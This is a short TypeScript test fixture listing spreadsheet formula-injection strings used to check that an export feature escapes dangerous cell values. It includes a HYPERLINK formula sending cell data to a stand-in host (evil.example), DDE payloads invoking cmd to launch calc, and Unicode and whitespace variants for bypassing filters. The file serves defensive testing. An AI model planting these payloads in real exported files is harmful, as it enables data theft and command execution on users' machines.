/** Formula-injection strings for the export tests (issue 11, item 3). */

/** The injection strings of the security review, and the other leading characters spreadsheets act on. */
export const INJECTIONS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\u00A0=1+1',
  '\uFF1D1+1',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF20SUM(1)',
  '=1+1\nsecond line',
  '=HYPERLINK("http://evil.example")\r\nnote',
  '\n=1+1',
];
